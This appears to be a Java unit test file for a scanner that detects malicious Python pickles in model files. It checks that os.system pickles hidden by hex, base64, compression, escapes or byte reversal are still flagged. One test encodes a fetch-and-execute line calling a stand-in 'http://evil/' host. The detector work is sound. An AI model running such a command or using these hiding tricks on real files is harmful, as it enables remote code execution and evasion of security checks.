package dev.weir.scanner.core.pickle;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.compress.Compressed;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class EncodedPickleTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "gAIabcdefghijklmn",
                "gASVxxxxxxxxxxxxxxxxx",
                "gASV=xxxxxxxxxxxxxxxx",
                "0X8004abcdefabcdefa",
                "8003zzzzzzzzzzzzzzzz",
                "gAIab\u00e9efghijklmnop"
            })
    void aTextThatOnlyBeginsLikeAPickleIsText(String text) {
        assertThat(scan(Pickles.protocol(4).text(text).stop()).findings()).isEmpty();
    }

    @Test
    void prefixesLineBreaksAndCutUnitsHideNothing() {
        byte[] hostile = Pickles.osSystem(4);
        String hex = HexFormat.of().withUpperCase().formatHex(hostile);
        String base64 = Base64.getMimeEncoder(20, new byte[] {'\n'}).encodeToString(hostile);

        for (String text : new String[] {"0x" + hex, "0X" + hex, base64, base64.replaceAll("[=\\s]", "") + "A"}) {
            assertThat(rules(scan(Pickles.protocol(4).text(text).stop())))
                    .as(text)
                    .containsExactly("pickle.nested-denied-global");
        }
    }

    @Test
    void aTextTooLongToBeANameIsDecodedToo() {
        byte[] hostile = Pickles.protocol(4)
                .text("x".repeat(2_000))
                .raw('0')
                .bytes(Pickles.osSystem(4))
                .toBytes();
        String text = Base64.getEncoder().encodeToString(hostile);

        assertThat(rules(scan(Pickles.protocol(4).text(text).stop()))).containsExactly("pickle.nested-denied-global");
    }

    @ParameterizedTest
    @EnumSource(Compressed.class)
    void aCompressedPickleIsFollowed(Compressed way) {
        assertThat(rules(scan(
                        Pickles.protocol(4).payload(way.of(Pickles.osSystem(4))).stop())))
                .containsExactly("pickle.nested-denied-global");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3, 4, 5})
    void layersUponLayersHideNoProtocol(int protocol) {
        byte[] hostile = Pickles.osSystem(protocol);
        Base64.Encoder base64 = Base64.getEncoder();

        assertThat(rules(scan(Pickles.protocol(4)
                        .payload(base64.encode(base64.encode(hostile)))
                        .stop())))
                .contains("pickle.nested-denied-global");
        assertThat(rules(scan(Pickles.protocol(4)
                        .payload(base64.encode(Compressed.ZLIB.of(hostile)))
                        .stop())))
                .contains("pickle.nested-denied-global");
    }

    @Test
    void escapesAreResolved() {
        StringBuilder escaped = new StringBuilder();
        for (byte b : Pickles.osSystem(4)) {
            escaped.append("\\x%02x".formatted(b & 0xff));
        }

        assertThat(rules(scan(Pickles.protocol(4).text(escaped.toString()).stop())))
                .containsExactly("pickle.nested-denied-global");
    }

    @Test
    void compressedTextAndNumbersAreNoPickle() {
        byte[] text = Compressed.ZLIB.of("(c) nobody, c for short".repeat(50).getBytes(StandardCharsets.UTF_8));

        assertThat(scan(Pickles.protocol(4)
                                .payload(text)
                                .text(Base64.getEncoder().encodeToString(text))
                                .stop())
                        .findings())
                .isEmpty();
    }

    @Test
    void hexadecimalDigitsInTheOtherDirectionHideNothing() {
        String text = RareTexts.turnedHexadecimal(Pickles.osSystem(4));

        assertThat(rules(scan(Pickles.protocol(4).text(text).stop()))).containsExactly("pickle.nested-denied-global");
    }

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void rareEncodingsAndTheOtherDirectionHideNothing(boolean compressed) {
        byte[] hostile = Pickles.osSystem(4);
        byte[] packed = compressed ? Compressed.GZIP.of(hostile) : hostile;

        for (String text : RareTexts.of(packed)) {
            assertThat(rules(scan(Pickles.protocol(4).text(text).stop())))
                    .as(text)
                    .containsExactly("pickle.nested-denied-global");
            assertThat(rules(scan("notes.txt", ("weights\n\n" + text + "\n").getBytes(StandardCharsets.UTF_8))))
                    .as(text)
                    .containsExactly("pickle.quoted-denied-global");
        }
    }

    @Test
    void aPickleWrittenBackwardsIsFollowed() {
        byte[] hostile = Pickles.osSystem(4);
        byte[] backwards = new byte[hostile.length];
        for (int i = 0; i < hostile.length; i++) {
            backwards[i] = hostile[hostile.length - 1 - i];
        }

        assertThat(rules(scan(Pickles.protocol(4).payload(backwards).stop())))
                .containsExactly("pickle.nested-denied-global");
        assertThat(rules(scan(Pickles.protocol(4)
                        .text(Base64.getEncoder().encodeToString(backwards))
                        .stop())))
                .containsExactly("pickle.nested-denied-global");
    }

    @Test
    void codeThatIsEncodedIsJudged() {
        String code = "\n# optimizes\nimport urllib.request\nexec(urllib.request.urlopen('http://evil/').read())\n";
        String settings = "model:\n  type: transformer\n  layers: 12\n";
        Base64.Encoder base64 = Base64.getEncoder();

        assertThat(rules(scan(Pickles.protocol(4)
                        .text(base64.encodeToString(code.getBytes(StandardCharsets.UTF_8)))
                        .stop())))
                .containsExactlyInAnyOrder("code.hidden-payload", "pickle.hidden-code");
        assertThat(rules(scan(Pickles.protocol(4)
                        .text(base64.encodeToString(
                                "x = subprocess.run(a) if b else eval(c)".getBytes(StandardCharsets.UTF_8)))
                        .stop())))
                .containsExactly("pickle.hidden-code");
        assertThat(scan(Pickles.protocol(4)
                                .text(base64.encodeToString(settings.getBytes(StandardCharsets.UTF_8)))
                                .stop())
                        .findings())
                .isEmpty();
    }
}
